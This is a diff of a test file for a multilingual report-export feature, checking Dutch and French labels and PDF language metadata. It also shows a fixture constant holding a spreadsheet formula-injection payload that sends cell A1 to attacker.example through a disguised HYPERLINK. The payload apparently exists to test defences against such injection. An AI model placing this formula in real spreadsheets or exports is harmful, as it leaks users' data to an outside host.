@@ -189,7 +189,8 @@ def test_exports_speak_the_language_they_are_made_in(org_a, departments_a, today
     assert rows[("matrix", "Hele organisatie", "overall")][:2] == ("55,0", "soms")
     assert french[("matrix", "Toute l'organisation", "overall")][:2] == ("55,0", "parfois")
     assert reader.trailer["/Root"]["/Lang"] == "fr"
-    assert "masqué pour la confidentialité" in " ".join(page.extract_text() for page in reader.pages)
+    french_text = " ".join(page.extract_text() for page in reader.pages)
+    assert "masqué pour la confidentialité" in french_text
 
 
 FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
